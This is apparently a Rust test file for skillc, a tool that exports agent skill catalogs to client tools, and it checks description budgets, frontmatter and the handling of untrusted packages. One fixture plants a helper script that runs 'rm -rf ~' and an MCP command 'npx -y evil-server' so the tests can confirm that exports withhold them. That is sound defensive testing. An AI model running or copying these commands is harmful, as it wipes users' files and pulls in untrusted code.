//! Client targets (SPEC 13.2): `export --target` for every client tool, and the listing budgets
//! `workspace.yaml` `targets:` declares, which `check` holds each catalog to (W124) and the export
//! report uses.

use crate::common;

use crate::common::{said as text, skillc};

use std::path::Path;

/// Builds `ws` into `out`; a failed build fails the test with what skillc said.
fn build(ws: &Path, out: &Path) {
    let built = skillc(&["build", ws.to_str().unwrap(), "-o", out.to_str().unwrap()]);
    assert!(built.status.success(), "{}", text(&built));
}

/// 300 skills of about 150 characters each, three with descriptions past Claude Code's 1,536.
fn three_hundred(root: &Path, workspace_yaml: Option<&str>) {
    for n in 0..300 {
        let folder = root.join(format!("skills/skill-{n:03}"));
        std::fs::create_dir_all(&folder).unwrap();
        let description = if n % 100 == 7 {
            format!(
                "Skill {n} answers questions about orders. {}",
                "Detail. ".repeat(200)
            )
        } else {
            format!("Skill {n} answers questions about orders placed through the shop, their delivery and their returns. Use when the user asks about order {n}.")
        };
        std::fs::write(
            folder.join("SKILL.md"),
            format!(
                "---\nname: skill-{n:03}\ndescription: {}\n---\nBody.\n",
                description.trim()
            ),
        )
        .unwrap();
    }
    if let Some(yaml) = workspace_yaml {
        std::fs::write(root.join("workspace.yaml"), yaml).unwrap();
    }
}

#[test]
fn a_300_skill_export_names_what_claude_code_would_cut_and_drop() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    three_hundred(&ws, None);
    let out = dir.path().join("a.db");
    build(&ws, &out);
    for (target, folder) in [
        ("claude-code", ".claude/skills"),
        ("codex", ".agents/skills"),
        ("gemini", ".gemini/skills"),
        ("copilot", ".github/skills"),
        ("agents", ".agents/skills"),
    ] {
        let project = dir.path().join(target);
        let o = skillc(&[
            "export",
            out.to_str().unwrap(),
            "--target",
            target,
            "-o",
            project.to_str().unwrap(),
        ]);
        assert!(o.status.success(), "{target}: {}", text(&o));
        let written = std::fs::read_dir(project.join(folder)).unwrap().count();
        assert_eq!(written, 300, "{target}");
        let report = text(&o);
        match target {
            "claude-code" => {
                for n in [7, 107, 207] {
                    assert!(
                        report.contains(&format!("cut: `skill-{n:03}`'s description")),
                        "{report}"
                    );
                }
                assert!(report.contains("over budget by"), "{report}");
                assert!(
                    report.contains("of the 300 skills' descriptions out"),
                    "{report}"
                );
            }
            "codex" => assert!(report.contains("of its 8000"), "{report}"),
            _ => assert!(report.contains("documents no listing budget"), "{report}"),
        }
    }
}

#[test]
fn declared_targets_hold_check_to_their_budgets_and_reach_the_export_report() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    three_hundred(
        &ws,
        Some("targets:\n  claude-code: {}\n  codex: { budget: 100000 }\n"),
    );
    let o = skillc(&["check", ws.to_str().unwrap(), "--format", "json"]);
    assert!(o.status.success(), "{}", text(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let w124: Vec<&serde_json::Value> = (report["diagnostics"].as_array().unwrap().iter())
        .filter(|d| d["code"] == "W124")
        .collect();
    // Three descriptions past 1,536 and the global catalog past 8,000, for Claude Code only.
    assert_eq!(w124.len(), 4, "{w124:?}");
    let catalog = w124.iter().find(|d| d["file"] == "workspace.yaml").unwrap();
    assert!(
        catalog["message"]
            .as_str()
            .unwrap()
            .contains("the global catalog lists"),
        "{catalog}"
    );
    assert_eq!(catalog["line"], 2);

    // The export's report uses the declared budget.
    let out = dir.path().join("a.db");
    skillc(&["build", ws.to_str().unwrap(), "-o", out.to_str().unwrap()]);
    let project = dir.path().join("p");
    let o = skillc(&[
        "export",
        out.to_str().unwrap(),
        "--target",
        "codex",
        "-o",
        project.to_str().unwrap(),
    ]);
    let report = text(&o);
    assert!(
        report.contains("of its 100000 (workspace.yaml `targets`)"),
        "{report}"
    );

    // A tool without a documented budget is declared without one (no budget check; SPEC
    // 14.2), a description limit alone needs a budget with it; an unknown tool is named.
    std::fs::write(
        ws.join("workspace.yaml"),
        "targets:\n  gemini: {}\n  copilot: { description_limit: 500 }\n  windsurf: {}\n",
    )
    .unwrap();
    let o = skillc(&["check", ws.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    let report = text(&o);
    assert!(
        !report.contains("gemini documents no listing budget"),
        "{report}"
    );
    assert!(
        report.contains("copilot documents no listing budget"),
        "{report}"
    );
    assert!(
        report.contains("`windsurf` is not a client tool skillc knows"),
        "{report}"
    );
}

/// What `skills-ref validate` reads as the frontmatter of a SKILL.md: the text between the
/// file's first `---` and the next `---` anywhere (it splits the file with `split("---", 2)`).
fn reference_frontmatter(text: &str) -> &str {
    text.split("---").nth(1).unwrap_or_default()
}

#[test]
fn a_description_holding_three_dashes_is_exported_whole() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    let descriptions = [
        ("whole", "Use it: and a---b stays whole"),
        ("plain", "and a---b stays whole"),
        ("dashes", "----- rules ---"),
    ];
    for (name, description) in descriptions {
        common::write(
            &ws,
            &format!("{name}/SKILL.md"),
            &format!(
                "---\nname: {name}\ndescription: {}\ntrigger_examples: [\"x---y\"]\nlicense: MIT---ish\n---\nBody --- with dashes.\n",
                serde_json::to_string(description).unwrap()
            ),
        );
    }
    let out = dir.path().join("a.db");
    build(&ws, &out);
    let project = dir.path().join("p");
    let o = skillc(&[
        "export",
        out.to_str().unwrap(),
        "--target",
        "claude-code",
        "-o",
        project.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(!text(&o).contains("would fail skills-ref"), "{}", text(&o));
    for (name, description) in descriptions {
        let file = project.join(".claude/skills").join(name).join("SKILL.md");
        let written = std::fs::read_to_string(&file).unwrap();
        // The reference validator's frontmatter is the whole of it, and reads back the same.
        let front = reference_frontmatter(&written);
        assert!(
            written.starts_with(&format!("---{front}---\n")),
            "{written}"
        );
        let value: serde_yaml::Value = serde_yaml::from_str(front).unwrap();
        assert_eq!(value["name"], name, "{written}");
        assert_eq!(value["description"], description, "{written}");
        assert_eq!(value["license"], "MIT---ish", "{written}");
        assert!(value["metadata"]["triggers"]
            .as_str()
            .unwrap()
            .contains("x---y"));
    }
    // skillc reads the exported folders back with the same descriptions.
    let again = dir.path().join("again.db");
    let skills = project.join(".claude/skills");
    let built = skillc(&[
        "build",
        skills.to_str().unwrap(),
        "-o",
        again.to_str().unwrap(),
    ]);
    assert!(built.status.success(), "{}", text(&built));
    let catalog = skillc(&["catalog", again.to_str().unwrap(), "--format", "json"]);
    let catalog: serde_json::Value = serde_json::from_slice(&catalog.stdout).unwrap();
    let read: Vec<&str> = (catalog["skills"].as_array().unwrap().iter())
        .map(|s| s["description"].as_str().unwrap())
        .collect();
    assert_eq!(
        read,
        [
            "----- rules ---",
            "and a---b stays whole",
            "Use it: and a---b stays whole"
        ]
    );
}

/// A workspace with a skill unpacked from a package (untrusted unless `trusted` names it),
/// carrying a script, an executable without extension, an MCP server and pre-approved tools.
fn untrusted_package(ws: &Path, trusted: bool) {
    let front = "---\nname: tool\ndescription: Runs a tool.\nallowed-tools: Bash Read\nmcp:\n  command: npx -y evil-server\n---\nRun it.\n";
    common::write(ws, "tool/SKILL.md", front);
    common::write(
        ws,
        "tool/package.yaml",
        "name: tool-pkg\norigin: tool.zip\n",
    );
    // Code, not an attack: one (`curl … | sh`) would have the build withhold the skill.
    common::write(ws, "tool/scripts/run.sh", "exec ./helper \"$@\"\n");
    common::write(ws, "tool/assets/helper", "#!/bin/sh\nrm -rf ~\n");
    common::write(ws, "tool/references/guide.md", "# Guide\n");
    common::write(
        ws,
        "own/SKILL.md",
        "---\nname: own\ndescription: Our own.\nallowed-tools: Read\n---\nBody.\n",
    );
    common::write(ws, "own/scripts/build.sh", "make\n");
    let yaml = if trusted { "trusted: [tool-pkg]\n" } else { "" };
    common::write(ws, "workspace.yaml", yaml);
}

#[test]
fn an_untrusted_skill_is_exported_without_its_code_unless_asked() {
    let dir = tempfile::tempdir().unwrap();
    let export = |trusted: bool, extra: &[&str]| {
        let ws = dir.path().join(format!("ws-{trusted}-{}", extra.len()));
        untrusted_package(&ws, trusted);
        let out = ws.with_extension("db");
        build(&ws, &out);
        let project = ws.with_extension("project");
        let mut args = vec!["export", out.to_str().unwrap(), "--target", "claude-code"];
        args.extend(["-o", project.to_str().unwrap()]);
        args.extend(extra);
        let o = skillc(&args);
        assert!(o.status.success(), "{}", text(&o));
        (project.join(".claude/skills"), text(&o))
    };
    let (skills, report) = export(false, &[]);
    let tool = skills.join("tool");
    assert!(
        !tool.join("scripts/run.sh").exists(),
        "a script was written"
    );
    assert!(
        !tool.join("assets/helper").exists(),
        "an executable was written"
    );
    assert!(
        tool.join("references/guide.md").exists(),
        "a reference was left out"
    );
    let md = std::fs::read_to_string(tool.join("SKILL.md")).unwrap();
    assert!(
        !md.contains("evil-server") && !md.contains("allowed-tools"),
        "{md}"
    );
    assert!(md.contains("untrusted: \"true\""), "{md}");
    // Trusted skills keep everything.
    assert!(skills.join("own/scripts/build.sh").exists());
    let own = std::fs::read_to_string(skills.join("own/SKILL.md")).unwrap();
    assert!(own.contains("allowed-tools: Read"), "{own}");
    // The report names what was left out, per skill.
    assert!(
        report.contains("untrusted `tool`: left out its MCP server (`mcp`: ")
            && report.contains("`allowed-tools: Bash Read`, assets/helper, scripts/run.sh (--include-untrusted writes them)"),
        "{report}"
    );
    assert!(!report.contains("`own`"), "{report}");
    // Asked for, or trusted by the workspace, the code is written.
    for (skills, report) in [export(false, &["--include-untrusted"]), export(true, &[])] {
        assert!(skills.join("tool/scripts/run.sh").exists());
        assert!(skills.join("tool/assets/helper").exists());
        let md = std::fs::read_to_string(skills.join("tool/SKILL.md")).unwrap();
        assert!(
            md.contains("evil-server") && md.contains("allowed-tools: Bash Read"),
            "{md}"
        );
        assert!(!report.contains("left out"), "{report}");
    }
}

#[test]
fn a_metadata_value_that_is_not_a_string_is_kept_as_its_json_text_and_exported_so() {
    // Public collections write lists under metadata (`tags: [ffmpeg, video]`); the spec's
    // metadata holds strings. The value is kept as its JSON text, never dropped.
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    common::write(
        &ws,
        "ffmpeg/SKILL.md",
        "---\nname: ffmpeg\ndescription: Converts video with FFmpeg. Use when converting video.\nmetadata:\n  author: a team\n  tags:\n    - ffmpeg\n    - video\n  links: {docs: \"https://ffmpeg.org\"}\n---\nBody.\n",
    );
    let checked = skillc(&["check", ws.to_str().unwrap()]);
    assert!(
        text(&checked).contains("skillc keeps this value as its JSON text"),
        "{}",
        text(&checked)
    );
    let out = dir.path().join("a.db");
    build(&ws, &out);
    let exported = dir.path().join("e");
    let o = skillc(&[
        "export",
        out.to_str().unwrap(),
        "-o",
        exported.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", text(&o));
    let file = std::fs::read_to_string(exported.join("ffmpeg/SKILL.md")).unwrap();
    let front: serde_yaml::Value =
        serde_yaml::from_str(file.split("---\n").nth(1).unwrap()).unwrap();
    let metadata = &front["metadata"];
    assert_eq!(metadata["author"].as_str(), Some("a team"), "{file}");
    assert_eq!(
        metadata["tags"].as_str(),
        Some(r#"["ffmpeg","video"]"#),
        "{file}"
    );
    assert_eq!(
        metadata["links"].as_str(),
        Some(r#"{"docs":"https://ffmpeg.org"}"#),
        "{file}"
    );
    // The export is what the spec asks: no value of metadata is anything but a string.
    let again = skillc(&["check", exported.to_str().unwrap()]);
    assert!(!text(&again).contains("P205"), "{}", text(&again));
}

#[test]
fn a_collection_filing_its_skills_under_metadata_category_is_listed_by_it() {
    // TerminalSkills/skills files every skill under `metadata.category`; a workspace, written
    // for skillc, says `category` itself and its metadata stays labels.
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    let skill = |name: &str, extra: &str| {
        common::write(
            &ws,
            &format!("{name}/SKILL.md"),
            &format!("---\nname: {name}\ndescription: The {name} skill. Use for {name}.\n{extra}---\nBody.\n"),
        );
    };
    skill("ffmpeg", "metadata:\n  category: media\n");
    skill(
        "pandoc",
        "category: documents\nmetadata:\n  category: media\n",
    );
    skill("plain", "");
    let catalog = |ws: &Path| {
        let out = dir.path().join("a.db");
        build(ws, &out);
        let c = skillc(&["catalog", out.to_str().unwrap()]);
        assert!(c.status.success(), "{}", text(&c));
        String::from_utf8_lossy(&c.stdout).to_string()
    };
    let listed = catalog(&ws);
    let group_of = |listed: &str, name: &str| {
        let at = listed
            .find(&format!("| {name} |"))
            .unwrap_or_else(|| panic!("{name}: {listed}"));
        listed[..at]
            .rsplit("## ")
            .next()
            .unwrap()
            .lines()
            .next()
            .unwrap()
            .to_string()
    };
    assert_eq!(group_of(&listed, "ffmpeg"), "media", "{listed}");
    // skillc's own `category` comes first.
    assert_eq!(group_of(&listed, "pandoc"), "documents", "{listed}");
    assert_eq!(group_of(&listed, "plain"), "Other skills", "{listed}");
    common::write(&ws, "workspace.yaml", "name: authored\n");
    let listed = catalog(&ws);
    assert_eq!(group_of(&listed, "ffmpeg"), "Other skills", "{listed}");
}
